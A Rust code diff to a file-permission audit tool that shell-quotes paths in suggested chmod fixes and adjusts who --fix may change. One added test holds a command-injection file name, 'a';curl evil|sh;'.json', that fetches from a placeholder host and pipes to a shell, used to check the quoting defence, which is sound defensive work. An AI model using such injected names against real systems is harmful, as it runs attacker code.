@@ -51,18 +51,13 @@ const fn readable(bits: u32) -> bool {
     bits & 0o044 != 0
 }
 
-/// The bits by which others may write, where a group with its owner's number counts as his own: by the convention of
-/// most systems it has no other member, and their default is to let it write.
-const fn foreign_write(entry: &Entry) -> u32 {
-    entry.mode & if entry.gid == entry.uid { 0o002 } else { 0o022 }
-}
-
 /// Whether `--fix` may change its mode: never through a link, by a path that is not the name, another user's file, or
 /// for root a file that has a second name elsewhere.
 const fn can_mend(model: &Model<'_>, entry: &Entry) -> bool {
     let user = model.snapshot.install.uid;
     let second_name = matches!(entry.kind, Kind::File) && entry.links > 1 && user == 0;
-    !matches!(entry.kind, Kind::Link) && !entry.escaped && (user == 0 || entry.uid == user) && !second_name
+    let own = entry.uid == user || (user == 0 && is_ours(model, entry.uid));
+    !matches!(entry.kind, Kind::Link) && !entry.escaped && own && !second_name
 }
 
 /// The bits of a file or folder that only its owner may use: what the owner could do stays.
@@ -71,22 +66,19 @@ const fn closed(entry: &Entry) -> u32 {
 }
 
 /// A finding about files: with their places, a fix for those that can be mended, and what to do about the others.
-fn about<'e>(
-    model: &Model<'_>,
-    finding: Finding,
-    files: &[&'e Entry],
-    bits: impl Fn(&'e Entry) -> u32,
-) -> Finding {
+fn about<'e>(model: &Model<'_>, finding: Finding, files: &[&'e Entry], bits: impl Fn(&'e Entry) -> u32) -> Finding {
     let mendable: Vec<&Entry> = files.iter().copied().filter(|entry| can_mend(model, entry)).collect();
     let mut finding = finding;
     finding.places.extend(files.iter().take(PLACES).map(|entry| Place::File(entry.path.clone())));
-    let remedy = match files {
-        [] => return finding,
-        [only] => format!("chmod {:o} {}", bits(only), only.path),
-        [first, ..] => format!("take the permissions of group and others away, such as: chmod {:o} {}", bits(first), first.path),
+    let Some(first) = files.first() else { return finding };
+    let command = format!("chmod {:o} {}", bits(first), quoted(&first.path));
+    let remedy = match files.len() {
+        1 => command,
+        _ => format!("take from group and others what they may do, beginning with: {command}"),
     };
     let rest = files.len().saturating_sub(mendable.len());
-    let by_hand = format!(" (not done by --fix for {rest}: a link, another user's, or a name that cannot be typed)");
+    let by_hand =
+        format!(" (--fix leaves {rest} to you: a link, another user's, a second name, or an unspeakable one)");
     finding = finding.remedy(if rest == 0 { remedy } else { remedy + &by_hand });
     if mendable.is_empty() {
         return finding;
@@ -97,6 +89,12 @@ fn about<'e>(
     };
     let fix = mendable.iter().fold(Fix::safe(what), |fix, entry| fix.mode(entry.path.clone(), bits(entry)));
     finding.fix(fix)
+}
+
+/// A path as one word of a shell: remediations are pasted, and a name can hold a command.
+fn quoted(path: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@:".contains(c);
+    if path.chars().all(plain) { path.to_owned() } else { format!("'{}'", path.replace('\'', r"'\''")) }
 }
 
 /// Some paths with their modes, one a line, and how many more there are.
@@ -112,13 +110,13 @@ fn listed(files: &[&Entry]) -> String {
 
 /// The severity where nobody can reach any of the files at present: one step lower, and the reason for the detail.
 fn reached(severity: Severity, files: &[&Entry]) -> (Severity, String) {
-    let shut = files.iter().all(|entry| entry.open() & entry.role.unwanted() & !entry.closed == 0);
+    let shut = files.iter().all(|entry| entry.unwanted() & !entry.closed == 0);
     let by = files.iter().find_map(|entry| entry.closed_by.as_deref());
     match by.filter(|_| shut) {
         None => (severity, String::new()),
         Some(folder) => {
             let lower = if severity == Severity::Critical { Severity::Warn } else { Severity::Info };
-            (lower, format!("\nOut of reach for now, because {folder} is closed: only that folder's mode keeps others out."))
+            (lower, format!("\nOut of reach for now: {folder} is closed, and only its mode keeps others out."))
         }
     }
 }
@@ -175,6 +173,15 @@ mod tests {
             entry("exec-approvals.sock", Role::ExecApprovals, 0o600),
         ];
         assert!(said(entries).is_empty());
+    }
+
+    #[test]
+    fn a_name_cannot_put_a_command_into_a_remediation() {
+        let evil = entry("credentials/a';curl evil|sh;'.json", Role::Credential, 0o666);
+        let findings = crate::testing::findings(&install(vec![evil]), "fs.");
+        let remedy = findings[0].remediation.as_deref();
+        let expected = r"chmod 600 '/home/op/.openclaw/credentials/a'\'';curl evil|sh;'\''.json'";
+        assert_eq!(remedy, Some(expected));
     }
 
     #[test]
